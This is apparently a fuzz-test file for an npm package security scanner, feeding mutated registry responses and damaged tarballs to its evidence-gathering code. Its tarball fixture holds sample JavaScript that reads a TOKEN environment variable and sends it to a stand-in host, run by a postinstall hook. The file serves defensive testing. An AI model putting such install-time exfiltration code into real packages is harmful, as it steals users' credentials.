// Answers of registries and advisory sources, and tarballs: hostile ones end in an observation, and soon.
import { gzipSync } from 'node:zlib'
import { expect } from '@jest/globals'
import fc from 'fast-check'
import { fetchAdvisories } from '../../src/evidence/advisories.ts'
import { fetchAttestations } from '../../src/evidence/attestation.ts'
import { BOUNDS } from '../../src/evidence/bounds.ts'
import { scanSource } from '../../src/evidence/code/capabilities.ts'
import { readContents } from '../../src/evidence/contents.ts'
import type { Http } from '../../src/evidence/http.ts'
import { fetchMalware } from '../../src/evidence/malware.ts'
import { toPackageFacts } from '../../src/evidence/packument.ts'
import type { Proof } from '../../src/evidence/proof/bundle.ts'
import { offeredKeys } from '../../src/evidence/proof/keys.ts'
import { fetchSignature } from '../../src/evidence/signature.ts'
import { absent, type Observation, observed } from '../../src/model/observation.ts'
import { aPackage, aRelease, SHA512 } from '../support/builders.ts'
import { packTarball, tarOf } from '../support/tarball.ts'
import { fuzz } from './harness.ts'
import { word } from './hostile.ts'
import { mutatedValue } from './mutate.ts'

const VERSION = {
  name: 'sample-mcp',
  version: '1.0.0',
  dist: {
    integrity: SHA512,
    tarball: 'https://registry.example.test/x.tgz',
    signatures: [{ keyid: 'k', sig: 'AAAA' }],
    unpackedSize: 1,
    fileCount: 2,
  },
  scripts: { postinstall: 'node x.js' },
  dependencies: { zod: '^3.0.0' },
  bin: { a: 'x.js' },
  repository: { type: 'git', url: 'git+https://github.com/acme/x.git' },
  maintainers: [{ name: 'ana', email: 'a@x.example' }],
  keywords: ['mcp'],
  _npmUser: { name: 'ana', trustedPublisher: { id: 'github' } },
}
const PACKUMENT = {
  name: 'sample-mcp',
  'dist-tags': { latest: '1.0.0' },
  versions: { '1.0.0': VERSION, '1.1.0': { ...VERSION, version: '1.1.0' } },
  time: { created: '2026-01-01T00:00:00.000Z', '1.0.0': '2026-01-01T00:00:00.000Z', unpublished: null },
  maintainers: [{ name: 'ana' }],
}
const BUNDLE = {
  mediaType: 'application/vnd.dev.sigstore.bundle+json;version=0.3',
  verificationMaterial: { publicKey: { hint: 'k' }, tlogEntries: [{ integratedTime: '1700000000' }] },
  dsseEnvelope: {
    payload: Buffer.from(
      JSON.stringify({
        _type: 'x',
        subject: [{ name: 'pkg:npm/a@1', digest: { sha512: 'aa' } }],
        predicateType: 'p',
        predicate: {},
      }),
    ).toString('base64'),
    payloadType: 'application/vnd.in-toto+json',
    signatures: [{ sig: 'AAAA', keyid: 'k' }],
  },
}
const ATTESTATIONS = {
  attestations: [
    { predicateType: 'p', bundle: BUNDLE },
    { predicateType: 'https://slsa.dev/provenance/v1', bundle: BUNDLE },
  ],
}
const ADVISORIES = {
  'sample-mcp': [
    { id: 1, url: 'https://x/GHSA-aaaa-bbbb-cccc', title: 't', severity: 'high', vulnerable_versions: '<2' },
  ],
}
const MALWARE = { results: [{ vulns: [{ id: 'MAL-2026-1', modified: 'x' }] }] }
const KEYS = {
  keys: [{ keyid: 'k', key: 'AAAA', scheme: 'ecdsa-sha2-nistp256', keytype: 'ecdsa-sha2-nistp256', expires: null }],
}

fuzz({
  name: 'packument',
  cases: mutatedValue([PACKUMENT]),
  runs: 300,
  holds: (json: unknown) => {
    const facts = toPackageFacts(json, 'sample-mcp')
    for (const [version, release] of facts?.releases ?? []) expect(release.version).toBe(version)
  },
})

/** Each request is answered with the same value. */
function answering(json: unknown): Http {
  const answer = async () => observed(Buffer.from(JSON.stringify(json) ?? ''))
  return { endpoint: { url: 'https://registry.example.test/', token: null }, get: answer, post: answer }
}

fuzz({
  name: 'answers',
  cases: mutatedValue([ATTESTATIONS, ADVISORIES, MALWARE, KEYS]),
  runs: 300,
  holds: async (json: unknown) => {
    const http = answering(json)
    const [suspect] = await fetchMalware(http, [{ ecosystem: 'npm', name: 'sample-mcp', version: '1.0.0' }], 1e6)
    const advisories = await fetchAdvisories(http, [{ name: 'sample-mcp', version: '1.0.0' }], 1e6)
    const keys = await offeredKeys(http)
    const signed = await fetchSignature('sample-mcp', aRelease({ signatures: [{ keyid: 'k', sig: 'AAAA' }] }), {
      provedKeys: async () => keys,
      offeredKeys: async () => keys,
    })
    const release = aRelease({ attested: true })
    const proof = async (): Promise<Observation<Proof>> =>
      observed({ verify: () => ({}) as never, keys: [], ownKeys: true, trustRoot: 'frozen' })
    const attested = await fetchAttestations(aPackage(), release, {
      http,
      maxBytes: 1e6,
      offeredKeys: async () => absent,
      proof,
    })
    for (const each of [suspect, advisories({ name: 'sample-mcp', version: '1.0.0' }), keys, signed, attested])
      expect(['observed', 'absent', 'unavailable']).toContain(each?.status)
  },
})

const MANIFEST = {
  name: 'sample-mcp',
  version: '1.0.0',
  scripts: { postinstall: 'npm run b && node x.js', b: 'node lib/y.js' },
  bin: 'x.js',
  main: 'x.js',
}
const CODE =
  "import https from 'node:https'\nconst { TOKEN } = process.env\nhttps.get(`https://x.example.test/$" + '{TOKEN}`)\n'
const read = (tarball: Buffer) =>
  readContents(tarball, {
    integrity: SHA512,
    bounds: { ...BOUNDS, unpackMs: 3000 },
    deadline: performance.now() + 3000,
  })

/** Bytes of an archive changed at some places, before or after it was compressed. */
const damaged = fc.record({
  manifest: mutatedValue([MANIFEST]),
  names: fc.array(word, { maxLength: 3 }),
  inside: fc.boolean(),
  edits: fc.array(fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.nat({ max: 255 })), { maxLength: 6 }),
  end: fc.constantFrom(1, 1, 1, 0.5, 0.9),
})

fuzz({
  name: 'tarball',
  cases: damaged,
  runs: 150,
  holds: async ({ manifest, names, inside, edits, end }) => {
    const files = { 'package.json': JSON.stringify(manifest) ?? '', 'x.js': CODE, 'lib/y.js': CODE }
    const odd = names
      .filter((name) => Buffer.byteLength(name) < 80)
      .map((name) => ({ path: `package/${name}`, content: CODE }))
    const entries = Object.entries(files).map(([path, content]) => ({ path: `package/${path}`, content }))
    const plain = inside ? tarOf([...entries, ...odd]) : packTarball(files)
    const changed = Buffer.from(plain.subarray(0, Math.ceil(end * plain.length)))
    for (const [place, byte] of edits) changed[Math.floor(place * (changed.length - 1))] = byte
    expect(['observed', 'unavailable']).toContain((await read(inside ? gzipSync(changed) : changed)).status)
  },
})

const SCRAPS = [
  '`',
  '$' + '{',
  '}',
  '{',
  '/',
  '*',
  '//',
  '/*',
  '*/',
  '"',
  "'",
  '\\',
  '\n',
  ' ',
  '(',
  ')',
  '[',
  'import{',
  'env',
  'from',
  'require(',
  'process.env.',
  'process',
  '.',
  'https://',
  'a@b.',
  'x',
  '0x1,',
  'function ',
  'set ',
  'eval(',
  'atob(',
  'aHR0c',
  '\u0000',
  'import ',
  'export * ',
  'Deno . env . ',
  'A.-.',
]

fuzz({
  name: 'code',
  cases: fc.record({
    scraps: fc.array(fc.constantFrom(...SCRAPS), { maxLength: 30 }),
    times: fc.constantFrom(1, 1, 3, 20_000),
  }),
  runs: 120,
  holds: ({ scraps, times }) =>
    expect(
      Array.isArray(
        scanSource(
          'x.js',
          scraps
            .join('')
            .repeat(Math.min(times, 300_000 / (scraps.join('').length + 1)))
            .slice(0, 300_000),
        ).capabilities,
      ),
    ).toBe(true),
})

fuzz({
  name: 'code-pump',
  cases: fc.record({
    head: fc.constantFrom('', '"', '`', "'", '/', ...SCRAPS),
    piece: fc.constantFrom(...SCRAPS),
    other: fc.constantFrom('', ...SCRAPS),
    tail: word,
  }),
  runs: 25,
  holds: ({ head, piece, other, tail }) =>
    scanSource('x.js', head + (piece + other).repeat(200_000 / (piece.length + other.length)) + tail),
})
